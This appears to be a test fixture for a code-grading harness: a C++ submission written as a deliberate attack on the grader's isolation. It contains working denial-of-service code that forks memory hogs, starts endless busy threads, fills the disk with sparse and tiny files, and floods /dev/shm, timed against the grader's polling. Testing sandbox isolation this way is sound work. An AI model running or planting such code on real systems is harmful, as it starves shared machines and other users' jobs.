// Attack: take the machine's memory, processors and disk from the other gradings. Each call
// starts processes that hold 1.5 GB each and sleep, busy threads, allocates beyond its limit,
// fills its own folder (files of 60 MB, then thousands of small ones) and shared memory
// (/dev/shm, which outlived the old grader's gradings), then waits to be stopped. Its task
// scores 0; the other tasks, and other gradings, keep their points.
#include <fcntl.h>
#include <sys/mman.h>
#include <unistd.h>

#include <cstring>
#include <new>
#include <stdexcept>
#include <string>
#include <thread>
#include <vector>

#include "billiard/extensions.hpp"

namespace billiard {
namespace {

void hold_memory(std::size_t bytes) {
  void* memory = ::mmap(nullptr, bytes, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  if (memory != MAP_FAILED) std::memset(memory, 1, bytes);
}

}  // namespace

Collision propagate_sectors(double, double, int n, Coordinates&, Velocities&, double) {
  for (int child = 0; child < 3; ++child) {
    if (::fork() == 0) {
      hold_memory(std::size_t{3} << 29);
      ::sleep(60);
      ::_exit(0);
    }
  }
  for (int thread = 0; thread < 8; ++thread) {
    std::thread([] {
      volatile unsigned long spin = 0;
      for (;;) spin = spin + 1;
    }).detach();
  }
  try {
    std::vector<char> hog(std::size_t{3} << 30, 1);
  } catch (const std::bad_alloc&) {
  }
  for (int file = 0; file < 8; ++file) {  // sized without writing: the disk's space, as the folder counts it
    const int big = ::open(("hog-" + std::to_string(file)).c_str(), O_RDWR | O_CREAT, 0644);
    if (big >= 0) (void)!::ftruncate(big, off_t{60} << 20);
  }
  for (int file = 0; file < 20000; ++file) {
    const int small = ::open(("small-" + std::to_string(file)).c_str(), O_RDWR | O_CREAT, 0644);
    if (small >= 0) ::close(small);
  }
  ::sleep(2);  // the grader looks at the folder twice a second
  const int shared = ::open("/dev/shm/billiard-hog", O_RDWR | O_CREAT, 0644);
  if (shared >= 0) {
    const std::vector<char> block(std::size_t{1} << 20, 1);
    for (int megabyte = 0; megabyte < 600; ++megabyte) (void)!::write(shared, block.data(), block.size());
  }
  ::sleep(60);
  throw std::logic_error("not computed, n = " + std::to_string(n));
}

}  // namespace billiard
